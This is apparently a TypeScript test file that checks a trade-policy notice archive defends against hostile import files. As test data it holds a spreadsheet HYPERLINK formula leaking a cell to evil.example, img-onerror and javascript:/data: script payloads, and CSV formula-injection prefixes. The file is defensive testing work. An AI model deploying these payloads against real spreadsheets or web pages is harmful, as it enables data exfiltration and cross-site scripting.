import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { generateNotices } from '../../bench/generate.ts';
import { vetImportItem } from '../../cli/import-vet.ts';
import { csvRow } from '../../db/export.ts';
import { openStore } from '../../db/index.ts';
import type { NoticeExport } from '../../db/types.ts';
import { parseCsv } from '../server/helpers.ts';
import { runCli } from '../helpers/cli.ts';
import { freshPgUrl, tempDir } from '../helpers/stores.ts';

/** The payloads an outsider imported into an archive (issue #19). */
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const MARKUP = '<img src=x onerror=alert(1)>';

const notice = (i: number, o: Partial<NoticeExport['notice']> = {}, attachments: NoticeExport['versions'][0]['attachments'] = []): NoticeExport => {
  const at = new Date('2025-03-01T00:00:00Z');
  return {
    notice: {
      sourceId: 'mofcom-zcfb',
      url: `https://www.mofcom.gov.cn/zcfb/art/2025/h${i}.html`,
      title: `关于第${i}批进口商品的公告`,
      docNumber: null,
      agency: '商务部',
      language: 'zh',
      publishedAt: '2025-03-01',
      effectiveAt: null,
      firstSeenAt: at,
      lastSeenAt: at,
      lastChangedAt: at,
      status: 'active',
      topics: ['tariffs'],
      hsCodes: ['8541'],
      regions: ['US'],
      contentHash: `c${i}`,
      ...o,
    },
    versions: [
      {
        version: 1,
        fetchedAt: at,
        contentHash: `c${i}`,
        title: `关于第${i}批进口商品的公告`,
        text: `第${i}批商品加征关税。`,
        html: '<p>x</p>',
        attachments,
        diff: null,
        changeSummary: null,
      },
    ],
  };
};
const line = (n: NoticeExport) => JSON.stringify(n);

describe('vetting an import row', () => {
  it('refuses javascript: and data: notice URLs, naming the line', () => {
    expect(() => vetImportItem(notice(1, { url: 'javascript:alert(document.cookie)' }), 7)).toThrow(
      /line 7: notice\.url: "javascript:alert\(document\.cookie\)" is not an http\(s\) URL/,
    );
    expect(() => vetImportItem(notice(1, { url: 'data:text/html,<script>alert(1)</script>' }), 3)).toThrow(/line 3: notice\.url: .*not an http\(s\) URL/);
    expect(() => vetImportItem(notice(1, { url: 'JAVASCRIPT:alert(1)' }), 3)).toThrow(/not an http\(s\) URL/);
  });

  it('drops tags that are not vocabulary ids with a warning naming the line, keeps the known ones', () => {
    const v = vetImportItem(notice(1, { topics: ['tariffs', FORMULA, MARKUP], regions: ['EU', MARKUP, 'eu'], hsCodes: ['8541', '=1+1', '2024'] }), 12);
    expect(v.item.notice).toMatchObject({ topics: ['tariffs'], regions: ['EU'], hsCodes: ['8541'] });
    expect(v.warnings).toHaveLength(1);
    expect(v.warnings[0]).toMatch(/^line 12: dropped unknown tags .*HYPERLINK.*onerror/);
  });

  it('refuses a language or source id that is not one, and drops attachments without an http(s) URL', () => {
    expect(() => vetImportItem(notice(1, { language: FORMULA }), 2)).toThrow(/line 2: notice\.language: .* is not a language code/);
    expect(() => vetImportItem(notice(1, { language: 'xx' }), 2)).toThrow(/notice\.language/);
    expect(() => vetImportItem(notice(1, { sourceId: '@SUM(A1)' }), 2)).toThrow(/line 2: notice\.sourceId/);
    const v = vetImportItem(
      notice(1, {}, [
        { name: 'a', url: 'javascript:alert(1)', type: 'pdf' },
        { name: 'b', url: 'https://x.gov.cn/b.pdf', type: 'pdf' },
      ]),
      4,
    );
    expect(v.item.versions[0].attachments.map((a) => a.url)).toEqual(['https://x.gov.cn/b.pdf']);
    expect(v.warnings[0]).toMatch(/^line 4: version 1: dropped 1 attachment/);
  });
});

describe('CSV export neutralises formulas in every column', () => {
  it('prefixes each cell starting with = + - @, tab or CR, whatever its column', () => {
    const starts = ['=', '+', '-', '@', '\t', '\r'];
    const n = notice(1, {
      sourceId: '=src',
      url: '+http://x',
      title: '-title',
      docNumber: '@doc',
      agency: '\tagency',
      language: '\rzh',
      publishedAt: '=2025',
      effectiveAt: '+2025',
      status: '-active' as 'active',
      topics: [FORMULA],
      hsCodes: ['+85'],
      regions: ['@EU'],
    });
    n.versions[0].attachments = [{ name: 'a', url: '=att', type: 'pdf' }];
    n.versions[0].text = '=1+1';
    const [cells] = parseCsv(csvRow({ ...n, id: 1 }));
    const risky = cells.filter((c) => starts.some((s) => c.startsWith(s)));
    expect(risky).toEqual([]);
    expect(cells.filter((c) => c.startsWith("'")).length).toBe(14);
    expect(cells).toContain(`'${FORMULA}`);
  });
});

describe.each(['sqlite', 'pg'] as const)('policy-radar import of a hostile file (%s)', (backend) => {
  const dir = tempDir();
  let db: string;

  beforeAll(async () => {
    db = backend === 'pg' ? await freshPgUrl() : join(dir, 'a.db');
    const store = await openStore(db);
    await store.importNotices(generateNotices(20, 5));
    await store.close();
  }, 60_000);

  const count = async () => {
    const s = await openStore(db);
    try {
      return (await s.search({ limit: 1 })).total;
    } finally {
      await s.close();
    }
  };

  it('validates the whole file first: a javascript: URL on line 3 writes nothing', async () => {
    const before = await count();
    const file = join(dir, `bad-${backend}.ndjson`);
    writeFileSync(file, [line(notice(1)), line(notice(2)), line(notice(3, { url: 'javascript:alert(1)' }))].join('\n'));
    const r = await runCli(['--db', db, 'import', file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/line 3: notice\.url: "javascript:alert\(1\)" is not an http\(s\) URL/);
    expect(await count()).toBe(before);
  });

  it('imports the rest with unknown tags dropped, warning for each row, and serves no unknown tag', async () => {
    const before = await count();
    const file = join(dir, `tags-${backend}.ndjson`);
    writeFileSync(
      file,
      [line(notice(4, { topics: [FORMULA, 'customs'] })), line(notice(5)), line(notice(6, { regions: [MARKUP], hsCodes: ['<b>85</b>'] }))].join('\n'),
    );
    const r = await runCli(['--db', db, 'import', file, '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ notices: 3, warnings: 2 });
    expect(r.stderr).toMatch(/warning: line 1: dropped unknown tags .*HYPERLINK/);
    expect(r.stderr).toMatch(/warning: line 3: dropped unknown tags .*onerror.*<b>85<\/b>/);
    expect(await count()).toBe(before + 3);
    const s = await openStore(db);
    try {
      const all = (await s.search({ limit: 100 })).hits.map((h) => h.notice);
      const h4 = all.find((n) => n.url.endsWith('/h4.html'))!;
      expect(h4.topics).toEqual(['customs']);
      const h6 = all.find((n) => n.url.endsWith('/h6.html'))!;
      expect(h6).toMatchObject({ regions: [], hsCodes: [] });
      expect(JSON.stringify(all.map((n) => [n.topics, n.regions, n.hsCodes]))).not.toMatch(/HYPERLINK|onerror|<b>/);
    } finally {
      await s.close();
    }
  });
});

describe.each(['sqlite', 'pg'] as const)('an archive already holding hostile tags (%s)', (backend) => {
  it('serves no unknown tag in facet dictionaries (API and web UI)', async () => {
    const { freshStore } = await import('../helpers/stores.ts');
    const { startServer } = await import('../server/helpers.ts');
    const { store, cleanup } = await freshStore(backend);
    // written past the import's checks, as an archive imported before them holds it
    await store.importNotices([notice(1, { topics: ['tariffs', FORMULA], regions: ['US', MARKUP] })]);
    const srv = await startServer(store);
    try {
      const api = (await (await fetch(`${srv.url}/api/notices?facets=true&q=${encodeURIComponent('关税')}`)).json()) as {
        facets: { topic: object; region: object };
      };
      expect(api.facets.topic).toEqual({ tariffs: 1 });
      expect(api.facets.region).toEqual({ US: 1 });
      const page = await (await fetch(`${srv.url}/?q=${encodeURIComponent('关税')}`)).text();
      expect(page).not.toMatch(/HYPERLINK|onerror/);
    } finally {
      await srv.close();
      await cleanup();
    }
  });
});
